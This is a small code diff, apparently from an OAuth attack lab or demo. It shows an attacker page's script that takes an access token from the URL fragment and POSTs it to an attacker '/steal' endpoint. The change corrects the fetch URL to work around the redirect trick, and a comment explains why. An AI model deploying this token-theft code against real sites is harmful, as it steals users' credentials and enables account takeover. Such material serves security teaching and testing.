@@ -7,7 +7,9 @@
   var out = document.getElementById("fragment");
   if (!token) { return; }
   var body = new URLSearchParams({ access_token: token });
-  fetch("/steal", { method: "POST", body: body }).then(function () {
+  // location.origin, not "/steal": this page's URL may still carry the user information of
+  // the redirect trick (PrintShop's host before the @), and fetch refuses URLs with credentials.
+  fetch(location.origin + "/steal", { method: "POST", body: body }).then(function () {
     if (out) { out.textContent = "Stolen from the fragment: an access token. See the loot on the attacker's page."; }
     document.body.setAttribute("data-stolen", "token");
   });
